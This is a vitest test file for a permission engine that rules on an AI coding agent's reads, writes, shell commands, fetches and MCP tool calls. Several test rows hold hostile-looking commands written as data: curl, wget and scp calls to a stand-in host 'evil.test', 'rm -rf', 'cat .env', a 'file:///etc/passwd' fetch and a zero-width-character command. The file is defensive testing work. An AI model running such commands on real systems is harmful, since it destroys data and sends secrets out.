/** What rules, grants and modes come to, for every kind of effect. */
import { describe, expect, test } from "vitest";
import type { Effect } from "../../src/core/effect.js";
import type { Judged } from "../../src/core/policy.js";
import type { Given } from "./judge.js";
import { fetching, judge, mcp, read, run, write } from "./judge.js";

type Row = [title: string, effects: Effect[], given: Given, expected: Judged["ruling"]];

const check = (title: string, rows: Row[]) =>
  describe(title, () => {
    test.each(rows)("%s", async (_title, effects, given, expected) => {
      const { ruling, why, detail } = await judge(effects, given);
      expect(ruling, `${why} ${detail}`).toBe(expected);
    });
  });

check("paths", [
  ["a read is free", read("src/a.ts"), {}, "allow"],
  ["a denied folder is not read", read("secrets/a.txt"), { deny: ["read(secrets/**)"] }, "deny"],
  ["nor listed", read("secrets"), { deny: ["read(secrets/**)"] }, "deny"],
  ["nor in other letters", read("Secrets/A.txt"), { deny: ["read(secrets/**)"] }, "deny"],
  ["its neighbour is", read("secrets2/a.txt"), { deny: ["read(secrets/**)"] }, "allow"],
  ["a name is denied at any depth", read("a/b/x.pem"), { deny: ["read(*.pem)"] }, "deny"],
  ["a folder's name takes what is in it", read("a/private/x"), { deny: ["read(private)"] }, "deny"],
  ["hidden files too", read("secrets/.x"), { ask: ["read(secrets/*)"] }, "ask"],
  ["writing is another matter", write("secrets/a"), { deny: ["read(secrets/**)"] }, "allow"],
  ["a write rule asks", write("db/1.sql"), { ask: ["write(db/**)"] }, "ask"],
  ["denied edits are writes", write("a"), { deny: ["edits"] }, "deny"],
  ["mode on asks", write("docs/a.md"), { mode: "on" }, "ask"],
  ["unless allowed", write("docs/a.md"), { mode: "on", allow: ["write(docs/**)"] }, "allow"],
  ["to the letter", write("docs2/a.md"), { mode: "on", allow: ["write(docs/**)"] }, "ask"],
  ["and not deeper", write("a/docs/a.md"), { mode: "on", allow: ["write(docs/**)"] }, "ask"],
  ["edits allow all of them", write("a"), { mode: "on", allow: ["edits"] }, "allow"],
]);

const secret: Effect[] = [{ kind: "read", path: ".env", caution: "secret" }];
const config = (path: string): Effect[] => [{ kind: "write", path, caution: "configuration" }];
const outside: Effect[] = [{ kind: "write", path: "/tmp/x", caution: "outside" }];

check("what is asked for each time", [
  ["a secret asks", secret, {}, "ask"],
  ["whatever globs allow", secret, { allow: ["read(**)", "tool(read_file)"] }, "ask"],
  ["unless it is named", secret, { allow: ["read(.env)"] }, "allow"],
  ["configuration asks", config("AGENTS.md"), { allow: ["edits", "write(**)"] }, "ask"],
  ["unless it is named", config("package.json"), { allow: ["write(package.json)"] }, "allow"],
  [
    "belay's own never",
    config(".belay/config.json"),
    { allow: ["write(.belay/config.json)"] },
    "ask",
  ],
  ["nor .mcp.json", config(".mcp.json"), { allow: ["write(.mcp.json)"] }, "ask"],
  ["outside never", outside, { allow: ["edits", "write(**)"] }, "ask"],
  ["edits granted do not cover it", config("AGENTS.md"), { grants: [{ kind: "edits" }] }, "ask"],
]);

check("commands", [
  ["a command asks", run("npm test"), {}, "ask"],
  ["a rule allows it", run("npm test"), { allow: ["npm test"] }, "allow"],
  ["at word boundaries", run("npm tester"), { allow: ["npm test"] }, "ask"],
  ["both of two", run("git status && npm test"), { allow: ["npm test", "git status"] }, "allow"],
  ["one of two asks", run("git status && npm test"), { allow: ["git status"] }, "ask"],
  ["in a substitution too", run("echo $(npm test)"), { allow: ["echo"] }, "ask"],
  ["deny goes before allow", run("git push"), { allow: ["git"], deny: ["git push"] }, "deny"],
  ["behind options", run("git -C x --no-pager push"), { deny: ["git push"] }, "deny"],
  ["in a line", run("npm test; /usr/bin/git push"), { deny: ["git push"] }, "deny"],
  ["in a wrapper", run("timeout 5 git push"), { deny: ["git push"] }, "deny"],
  ["in mode off", run("git push"), { mode: "off", deny: ["git push"] }, "deny"],
  [
    "not a word in a message",
    run("git commit -m push"),
    { allow: ["git commit"], deny: ["git push"] },
    "allow",
  ],
  ["ask goes before allow", run("npm test"), { allow: ["npm test"], ask: ["npm"] }, "ask"],
  [
    "and before grants",
    run("npm test"),
    { grants: [{ kind: "command", words: ["npm", "test"], exact: false }], ask: ["npm test"] },
    "ask",
  ],
  ["and before the mode", run("npm test"), { mode: "off", ask: ["npm test"] }, "ask"],
  ["mode off asks nothing else", run("npm run x"), { mode: "off", ask: ["npm test"] }, "allow"],
  ["hard denials hold", run("sudo ls"), { mode: "off", allow: ["sudo", "sudo ls"] }, "deny"],
  ["so does lost work", run("rm -rf ."), { allow: ["rm", "rm -rf ."] }, "ask"],
  ["to the letter too", run("rm -rf ."), { allow: ["exactly(rm -rf .)"] }, "ask"],
  ["an exact line", run("make a | tee b"), { allow: ["exactly(make a | tee b)"] }, "allow"],
  ["and no other", run("make a | tee c"), { allow: ["exactly(make a | tee b)"] }, "ask"],
  ["paths it names", run("cat secrets/x"), { allow: ["cat"], deny: ["read(secrets/**)"] }, "deny"],
  ["paths it writes", run("echo x > db/1"), { mode: "off", deny: ["write(db/**)"] }, "deny"],
  ["reading is no writing", run("cat db/1"), { allow: ["cat"], deny: ["write(db/**)"] }, "allow"],
]);

check("hosts", [
  ["fetching asks", fetching("https://a.example/"), {}, "ask"],
  [
    "a host is allowed",
    fetching("https://docs.example.com/a?b"),
    { allow: ["fetch docs.example.com"] },
    "allow",
  ],
  [
    "not what ends like it",
    fetching("https://evil-docs.example.com/"),
    { allow: ["fetch docs.example.com"] },
    "ask",
  ],
  [
    "not what begins like it",
    fetching("https://docs.example.com.evil.test/"),
    { allow: ["fetch docs.example.com"] },
    "ask",
  ],
  [
    "not behind an at sign",
    fetching("https://docs.example.com@evil.test/"),
    { allow: ["host(docs.example.com)"] },
    "deny",
  ],
  [
    "not on another port",
    fetching("https://docs.example.com:8443/"),
    { allow: ["host(docs.example.com)"] },
    "ask",
  ],
  [
    "nor below it",
    fetching("https://x.docs.example.com/"),
    { allow: ["host(docs.example.com)"] },
    "ask",
  ],
  [
    "a star stands for what is below",
    fetching("https://a.b.example.com/"),
    { allow: ["host(*.example.com)"] },
    "allow",
  ],
  ["and not for it", fetching("https://example.com/"), { allow: ["host(*.example.com)"] }, "ask"],
  [
    "denied with what is below",
    fetching("https://x.evil.test:99/"),
    { allow: ["host(*)"], deny: ["host(evil.test)"] },
    "deny",
  ],
  [
    "however it is spelt",
    fetching("HTTPS://EVIL.TEST./"),
    { allow: ["host(*)"], deny: ["host(evil.test)"] },
    "deny",
  ],
  ["off", fetching("https://a.example/"), { mode: "off" }, "allow"],
]);

const evil = { mode: "off", deny: ["host(evil.test)"] } as const;

check("hosts in commands", [
  ["an address", run("curl -s https://evil.test/x"), evil, "deny"],
  ["below it", run("wget http://a.evil.test:81/"), evil, "deny"],
  ["a remote", run("git clone git@evil.test:a/b.git"), evil, "deny"],
  ["another machine", run("scp a.txt me@evil.test:"), evil, "deny"],
  ["in a line", run("npm test && curl EVIL.test"), evil, "deny"],
  ["another host", run("curl https://good.test/?evil.test"), evil, "allow"],
  ["a word", run("git commit -m 'block evil.test'"), evil, "allow"],
]);

check("addresses that nothing allows", [
  ["this machine", fetching("http://127.0.0.1/"), { mode: "off", allow: ["host(*)"] }, "deny"],
  ["a name of it", fetching("http://localhost:8080/"), { allow: ["host(localhost:8080)"] }, "deny"],
  ["a file", fetching("file:///etc/passwd"), { allow: ["tool(web_fetch)"] }, "deny"],
]);

check("tools and servers", [
  ["an MCP tool asks", mcp("gh", "get"), {}, "ask"],
  ["one is allowed", mcp("gh", "get"), { allow: ["mcp(gh/get)"] }, "allow"],
  ["another is not", mcp("gh", "put"), { allow: ["mcp(gh/get)"] }, "ask"],
  ["all of a server", mcp("gh", "put"), { allow: ["mcp(gh/*)"] }, "allow"],
  ["but the denied", mcp("gh", "put"), { allow: ["mcp(gh)"], deny: ["mcp(gh/put)"] }, "deny"],
  [
    "a tool is denied",
    write("a"),
    { deny: ["tool(create_project)"], standing: { tool: "create_project" } },
    "deny",
  ],
  [
    "even without effects",
    [],
    { deny: ["tool(load_skill)"], standing: { tool: "load_skill" } },
    "deny",
  ],
  ["a tool asks", read("a"), { ask: ["tool(read_file)"], standing: { tool: "read_file" } }, "ask"],
  [
    "a tool is allowed",
    write("a"),
    { mode: "on", allow: ["tool(edit_file)"], standing: { tool: "edit_file" } },
    "allow",
  ],
  [
    "but no command by it",
    run("npm test"),
    { allow: ["tool(execute_command)"], standing: { tool: "execute_command" } },
    "ask",
  ],
]);

test("the strictest of several effects decides, and names its rule", async () => {
  const effects = [...write("a"), ...write("docs/x"), ...write("b")];
  const judged = await judge(effects, { deny: ["write(docs/**)"], source: "project" });
  expect(judged).toMatchObject({
    ruling: "deny",
    why: "rule",
    rule: { text: "write(docs/**)", source: "project" },
  });
  expect(judged.reason).toContain("write(docs/**)");
});

test("an allow rule of a file is named as such, a grant as given before", async () => {
  const allowed = await judge(run("npm test"), { allow: ["npm test"] });
  expect(allowed).toMatchObject({ why: "rule", detail: "command(npm test)" });
  const grant = { kind: "command", words: ["npm", "test"], exact: false } as const;
  expect(await judge(run("npm test"), { grants: [grant] })).toMatchObject({ why: "granted" });
});

test("always is offered with its exact scope, and not where a rule asks", async () => {
  const offered = async (effects: Effect[], given: Given = {}) =>
    (await judge(effects, given)).grant;
  expect(await offered(run("npm test"))).toEqual({
    kind: "command",
    words: ["npm", "test"],
    exact: false,
  });
  expect(await offered(fetching("https://A.example:8443/x"))).toEqual({
    kind: "host",
    host: "a.example:8443",
  });
  expect(await offered(mcp("gh", "get"))).toEqual({ kind: "mcp", server: "gh", tool: "get" });
  expect(await offered(run("npm test"), { ask: ["npm"] })).toBeUndefined();
  expect(await offered(secret)).toBeUndefined();
  expect(await offered([...write("a"), ...write("b")], { mode: "on" })).toEqual({ kind: "edits" });
  expect(await offered([...fetching("https://a.example"), ...mcp("a", "b")])).toBeUndefined();
});

test("a rule taken back allows nothing, one that denies stays", async () => {
  const standing = { revoked: ["command(npm test)", "command(git push)"] };
  const given = { allow: ["npm test"], deny: ["git push"], standing };
  expect((await judge(run("npm test"), given)).ruling).toBe("ask");
  expect((await judge(run("git push"), given)).ruling).toBe("deny");
});

describe("the worst of a line is what is said of it, wherever it stands", () => {
  test.each<[command: string, why: Judged["why"], danger: Judged["danger"], always: boolean]>([
    ["npm install left-pad && rm -rf build", "destructive", "high", false],
    ["rm -rf build && npm install left-pad", "destructive", "high", false],
    ["npm install left-pad && cat .env", "secret", "medium", false],
    ["cat .env && git reset --hard", "destructive", "high", false],
    ["echo a\u200bb; rm -rf build", "unparsable", "high", false],
    ["echo a\u200bb; cat .env", "unparsable", "medium", false],
    ["echo a\u200bb; make", "unparsable", "medium", true],
    ["make && npm install left-pad", "network", "medium", true],
  ])("%j", async (command, why, danger, always) => {
    const judged = await judge(run(command));
    expect(judged).toMatchObject({ ruling: "ask", why, danger });
    expect(judged.grant !== undefined).toBe(always);
    const { ruling } = await judge(run(command), { allow: [`exactly(${command})`] });
    expect(ruling).toBe(always ? "allow" : "ask");
  });
});
